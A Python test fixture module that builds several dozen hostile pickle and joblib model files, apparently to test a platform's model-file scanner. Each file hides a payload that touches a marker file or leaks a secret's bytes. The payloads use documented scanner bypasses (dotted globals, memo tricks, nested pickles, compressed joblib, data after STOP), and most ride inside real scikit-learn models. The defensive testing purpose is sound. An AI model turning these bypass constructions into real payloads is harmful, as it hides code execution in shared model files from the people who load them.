"""Hostile pickle and joblib files, built by code: every cause of issue 10 and published
scanner bypasses (picklescan, fickling and modelscan issue trackers). Each payload, if it ran,
would create `marker` (or hand back the bytes of SECRET_NAME); most ride on a real model.
"""

from __future__ import annotations

import io
import os
import pickle
import shlex
import struct
import sys
from pathlib import Path
from typing import Any

import numpy as np

from models_app.tests.hostile import HostileFile

SECRET_NAME = "secret-token.txt"
SECRET = b"AXION-SECRET-4f1c9e-never-in-a-response"
EXT_CODE = 0x7A11  # what a victim process would have registered with copyreg.add_extension
PLATFORM = "models_app.tests.platform"
P = pickle


def _text(value: str) -> bytes:
    data = value.encode("utf-8")
    if len(data) < 256:
        return P.SHORT_BINUNICODE + bytes([len(data)]) + data
    return P.BINUNICODE + struct.pack("<I", len(data)) + data


def _global(module: str, name: str) -> bytes:
    return P.GLOBAL + f"{module}\n{name}\n".encode()


def _stack_global(module: str, name: str) -> bytes:
    return _text(module) + _text(name) + P.STACK_GLOBAL


def _call(callable_ops: bytes, *args: bytes) -> bytes:
    return callable_ops + P.MARK + b"".join(args) + P.TUPLE + P.REDUCE


def _model() -> Any:
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(11)
    x = rng.normal(size=(80, 4))
    return LogisticRegression().fit(x, (x[:, 0] > 0).astype(int))


def _riding(payload: bytes, model: Any = None) -> bytes:
    """A real model's pickle (protocol 3 body, declared 4 so dotted names resolve) that also
    runs `payload` (opcodes leaving one value) before answering the model."""
    body = pickle.dumps(_model() if model is None else model, protocol=3)[2:-1]
    return P.PROTO + b"\x04" + body + payload + P.POP + P.STOP


def _memo_size(data: bytes) -> int:
    import pickletools

    return sum(1 for op, _, _ in pickletools.genops(data) if "PUT" in op.name)


class _Reduce:
    """Pickles as `callable(*args)`: how an attacker's own class smuggles a call."""

    def __init__(self, callable_: Any, *args: Any):
        self.callable_ = callable_
        self.args = args

    def __reduce__(self) -> tuple:
        return self.callable_, self.args


def _code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').write('pwned')"


def build(directory: Path, marker: Path) -> list[HostileFile]:
    import joblib
    from joblib.numpy_pickle_compat import NDArrayWrapper, ZNDArrayWrapper, write_zfile

    cmd = f"touch {shlex.quote(str(marker))}"
    code = _code(marker)
    secret = directory / SECRET_NAME
    secret.write_bytes(SECRET)
    evil = _Reduce(os.system, cmd)
    model = _model()
    files: list[HostileFile] = []

    def add(name: str, fmt: str, data: bytes, cause: str) -> None:
        path = directory / f"{name}.{'pkl' if fmt == 'pickle' else 'joblib'}"
        path.write_bytes(data)
        files.append(HostileFile(name=name, artifact_format=fmt, framework="sklearn", path=path,
                                 cause=cause))

    def joblib_bytes(obj: Any, **kwargs: Any) -> bytes:
        buffer = io.BytesIO()
        joblib.dump(obj, buffer, **kwargs)
        return buffer.getvalue()

    # Aux files a payload reaches for: an .npy whose object array unpickles a payload, a
    # payload pickle, and the secret in joblib's old zfile format.
    payload_npy = directory / "payload-object-array.npy"
    np.save(payload_npy, np.array([evil, None], dtype=object), allow_pickle=True)
    payload_pkl = directory / "payload-nested.pkl"
    payload_pkl.write_bytes(pickle.dumps(evil))
    secret_zfile = directory / "secret.zfile"
    with open(secret_zfile, "wb") as stream:
        write_zfile(stream, SECRET)

    from sklearn.linear_model import LinearRegression

    leaky = LinearRegression().fit(np.eye(4), np.arange(4.0))
    leaky.coef_ = np.zeros((len(SECRET), 4))
    leaky.intercept_ = _Reduce(np.fromfile, str(secret), np.uint8)
    model.calibration_hook_ = evil

    add("pickle-reduce-os-system", "pickle", pickle.dumps(model, protocol=4),
        "a real model whose attribute pickles as os.system (the plain gadget)")
    add("pickle-dotted-stack-global", "pickle",
        _riding(_call(_stack_global("sklearn", "os.system"), _text(cmd))),
        "STACK_GLOBAL module 'sklearn', name 'os.system': a prefix allowlist passes it")
    add("pickle-dotted-global-opcode", "pickle",
        _riding(_call(_global("sklearn", "os.system"), _text(cmd))),
        "GLOBAL with a dotted name under protocol 4, resolved through sklearn's own os")
    add("pickle-dotted-through-allowed-class", "pickle",
        _riding(_call(_stack_global("sklearn.linear_model._logistic",
                                    "np.testing.runstring"), _text(code), P.EMPTY_DICT)),
        "a dotted name that walks from an allowed module through its numpy to runstring")
    free = _memo_size(pickle.dumps(_model(), protocol=3)) + 5
    first, second = struct.pack("<I", free), struct.pack("<I", free + 1)
    add("pickle-memo-confusion", "pickle", _riding(
        _text("os") + P.LONG_BINPUT + first + _text("system") + P.LONG_BINPUT + second
        + P.POP + P.POP + _text("sklearn") + P.MEMOIZE + _text("_reconstructor") + P.MEMOIZE
        + P.POP + P.POP + P.LONG_BINGET + first + P.LONG_BINGET + second + P.STACK_GLOBAL
        + _text(cmd) + P.TUPLE1 + P.REDUCE),
        "module and name strings kept in the memo by BINPUT mixed with MEMOIZE "
        "(picklescan #14)")
    add("pickle-memo-out-of-order", "pickle",
        P.PROTO + b"\x04" + P.UNICODE + b"os\n" + P.PUT + b"2\n" + P.POP
        + P.UNICODE + b"system\n" + P.PUT + b"3\n" + P.POP
        + P.UNICODE + b"numpy\n" + P.PUT + b"0\n" + P.POP
        + P.UNICODE + b"dtype\n" + P.PUT + b"1\n" + P.POP
        + P.GET + b"2\n" + P.GET + b"3\n" + P.STACK_GLOBAL
        + P.MARK + _text(cmd) + P.TUPLE + P.REDUCE + P.STOP,
        "memo slots written out of order by PUT, read by GET before STACK_GLOBAL "
        "(picklescan #22)")
    add("pickle-computed-stack-global", "pickle", _riding(
        _call(_global("builtins", "str"), _text("os"))
        + _call(_global("builtins", "str"), _text("system")) + P.STACK_GLOBAL
        + _text(cmd) + P.TUPLE1 + P.REDUCE),
        "STACK_GLOBAL on strings computed by allowed calls, not written as literals")
    add("pickle-garbage-prefix", "pickle",
        P.PROTO + b"\x04" + P.BINBYTES8 + struct.pack("<Q", 2 * 1024 * 1024)
        + os.urandom(2 * 1024 * 1024) + P.POP
        + _riding(_call(_global("os", "system"), _text(cmd)))[2:],
        "two megabytes of random bytes (one BINBYTES8) before a model and its payload")
    add("pickle-scanner-unparseable-prefix", "pickle",
        P.PROTO + b"\x02" + P.LONG + b"0x10L\n" + P.POP
        + _riding(_call(_global("os", "system"), _text(cmd)))[2:],
        "a first opcode pickle reads and pickletools cannot (hex LONG): the scan fails, "
        "once counted clean")
    add("pickle-inst-opcode", "pickle",
        _riding(P.MARK + _text(cmd) + P.INST + b"os\nsystem\n"),
        "INST calls os.system without REDUCE")
    add("pickle-obj-opcode", "pickle",
        _riding(P.MARK + _global("os", "system") + _text(cmd) + P.OBJ),
        "OBJ calls os.system without REDUCE")
    add("pickle-ext-opcode", "pickle",
        _riding(P.EXT4 + struct.pack("<i", EXT_CODE) + _text(cmd) + P.TUPLE1 + P.REDUCE),
        "EXT4 names os.system through the copyreg extension registry, not by text")
    add("pickle-build-setattr-on-allowed-function", "pickle", _riding(
        _global("copyreg", "_reconstructor") + P.NONE + P.EMPTY_DICT + _text("a")
        + _text("os") + P.SETITEM + P.TUPLE2 + P.BUILD + P.POP
        + _global("copyreg", "_reconstructor") + P.NONE + P.EMPTY_DICT + _text("b")
        + _text("system") + P.SETITEM + P.TUPLE2 + P.BUILD + P.POP
        + _global("copyreg", "_reconstructor.a") + _global("copyreg", "_reconstructor.b")
        + P.STACK_GLOBAL + _text(cmd) + P.TUPLE1 + P.REDUCE),
        "BUILD's slot state sets attributes on an allowed function, read back as names "
        "(modelscan #85)")
    add("pickle-reconstructor-popen", "pickle", _riding(_call(
        _global("copyreg", "_reconstructor"), _global("subprocess", "Popen"),
        _global("subprocess", "Popen"),
        P.MARK + _text("sh") + _text("-c") + _text(cmd) + P.LIST)),
        "copyreg._reconstructor (needed by real pickles) building a subprocess.Popen")
    add("pickle-numpy-fromfile-leak", "pickle", pickle.dumps(leaky, protocol=4),
        "numpy.fromfile as a LinearRegression's intercept_: predictions are a file's bytes")
    add("pickle-numpy-load-nested", "pickle",
        _riding(_call(_global("numpy", "load"), _text(str(payload_npy)), P.NONE,
                      P.NEWTRUE)),
        "numpy.load(allow_pickle=True) of an .npy whose object array is a payload")
    add("pickle-numpy-testing-runstring", "pickle",
        _riding(_call(_global("numpy.testing._private.utils", "runstring"), _text(code),
                      P.EMPTY_DICT)),
        "numpy's testing runstring executes a string")
    add("pickle-numpy-testing-public-runstring", "pickle",
        _riding(_call(_stack_global("numpy.testing", "runstring"), _text(code),
                      P.EMPTY_DICT)),
        "the same function by its public name in an allowed package")
    add("pickle-sklearn-testing-script", "pickle",
        _riding(_call(_global("sklearn.utils._testing",
                              "assert_run_python_script_without_output"), _text(code))),
        "scikit-learn's testing helper runs a Python script in a subprocess")
    add("pickle-pandas-read-pickle", "pickle",
        _riding(_call(_global("pandas", "read_pickle"), _text(str(payload_pkl)))),
        "pandas.read_pickle unpickles another file, unrestricted")
    add("pickle-nested-pickle-loads", "pickle",
        _riding(_call(_global("pickle", "loads"),
                      P.BINBYTES + struct.pack("<I", len(pickle.dumps(evil)))
                      + pickle.dumps(evil))),
        "a pickle inside a pickle, unpickled by pickle.loads (modelscan #267)")
    add("pickle-nested-c-pickle-loads", "pickle",
        _riding(_call(_global("_pickle", "loads"),
                      P.BINBYTES + struct.pack("<I", len(pickle.dumps(evil)))
                      + pickle.dumps(evil))),
        "the same through the C module _pickle")
    add("pickle-builtins-getattr-import", "pickle", _riding(_call(
        _call(_global("builtins", "getattr"), _call(_global("builtins", "__import__"),
                                                    _text("os")), _text("system")),
        _text(cmd))),
        "builtins.getattr on builtins.__import__('os'): a chain of harmless-looking builtins")
    add("pickle-builtins-eval", "pickle",
        _riding(_call(_global("builtins", "eval"), _text(f"__import__('os').system({cmd!r})"))),
        "builtins.eval of a string")
    add("pickle-runpy-run-code", "pickle",
        _riding(_call(_global("runpy", "_run_code"), _text(code), P.EMPTY_DICT)),
        "runpy._run_code executes a string")
    add("pickle-pydoc-locate", "pickle",
        _riding(_call(_call(_global("pydoc", "locate"), _text("os.system")), _text(cmd))),
        "pydoc.locate resolves any dotted name to an object")
    slot = struct.pack("<I", free + 10)
    add("pickle-importlib-import-module", "pickle", _riding(
        _call(_global("importlib", "import_module"), _text("os")) + P.LONG_BINPUT + slot
        + P.POP + _call(_call(_global("builtins", "getattr"), P.LONG_BINGET + slot,
                              _text("system")), _text(cmd))),
        "importlib.import_module with getattr (picklescan #66)")
    add("pickle-timeit-statement", "pickle",
        _riding(_call(_global("timeit", "timeit"), _text(code), _text("pass"),
                      _global("time", "perf_counter"), P.BININT1 + b"\x01")),
        "timeit compiles and runs a statement")
    add("pickle-functools-partial-wrapper", "pickle", _riding(
        _call(_call(_global("functools", "partial"), _global("os", "system"), _text(cmd)))),
        "functools.partial wraps os.system (fickling's partial bypass)")
    add("pickle-platform-function", "pickle",
        _riding(_call(_global(f"{PLATFORM}.helpers", "run_shell"), _text(cmd))),
        "a function defined in the platform package, not a class")
    add("pickle-platform-reexport-os-system", "pickle",
        _riding(_call(_global(f"{PLATFORM}.reexports", "system"), _text(cmd))),
        "os.system re-exported by a platform module")
    add("pickle-platform-reexport-popen", "pickle", _riding(_call(
        _global(f"{PLATFORM}.reexports", "Popen"),
        P.MARK + _text("sh") + _text("-c") + _text(cmd) + P.LIST)),
        "subprocess.Popen re-exported by a platform module: a class, but not the platform's")
    oob = pickle.dumps(np.arange(64.0), protocol=5, buffer_callback=lambda b: False)
    add("pickle-protocol5-out-of-band", "pickle",
        _riding(_call(_global("os", "system"), _text(cmd)))[:-1] + oob[2:-1] + P.POP
        + P.STOP,
        "protocol 5 out-of-band buffers (NEXT_BUFFER) after a payload")
    add("pickle-payload-after-stop", "pickle",
        pickle.dumps(_model(), protocol=4) + pickle.dumps(evil, protocol=4),
        "a clean model, then a second pickle after STOP for a loader that reads on")

    weights = np.arange(4096, dtype=np.float64)
    add("joblib-payload-after-first-array", "joblib",
        joblib_bytes({"weights": weights, "model": _model(), "hook": evil}),
        "a payload after the first raw array of an uncompressed joblib file, where "
        "picklescan stops reading")
    for method in ("zlib", "gzip", "bz2", "lzma", "xz"):
        add(f"joblib-compressed-{method}", "joblib",
            joblib_bytes({"model": _model(), "hook": evil}, compress=(method, 3)),
            f"a {method}-compressed joblib file: the scan saw no globals and called it clean")
    add("joblib-object-array-nested-pickle", "joblib",
        joblib_bytes({"model": _model(), "labels": np.array([evil, "a"], dtype=object)}),
        "an object-dtype array, whose joblib data is a nested pickle")
    add("joblib-object-array-compressed", "joblib",
        joblib_bytes({"labels": np.array([evil, "b"], dtype=object)}, compress=("gzip", 3)),
        "the same inside a gzip-compressed joblib file")
    add("joblib-ndarraywrapper-filename", "joblib",
        joblib_bytes({"model": _model(), "weights": NDArrayWrapper(str(payload_npy),
                                                                   np.ndarray, False)}),
        "joblib's old NDArrayWrapper loads a file named in the pickle, allow_pickle=True")
    add("joblib-zndarraywrapper-leak", "joblib",
        joblib_bytes({"model": _model(), "weights": ZNDArrayWrapper(
            str(secret_zfile), (np.ndarray, (0,), b"b"), (1, (len(SECRET),),
                                                           np.dtype(np.uint8), False))}),
        "joblib's old ZNDArrayWrapper reads a file named in the pickle into an array")
    add("joblib-plain-pickle-payload", "joblib", pickle.dumps(model, protocol=4),
        "a plain pickle declared as joblib (joblib.load reads plain pickles too)")
    add("joblib-numpy-fromfile-leak", "joblib", joblib_bytes(leaky, compress=("zlib", 3)),
        "numpy.fromfile inside a compressed joblib model")
    return files


if __name__ == "__main__":  # pragma: no cover - python -m models_app.tests.hostile.pickles
    for f in build(Path(sys.argv[1]), Path(sys.argv[1]) / "PWNED"):
        print(f.name)
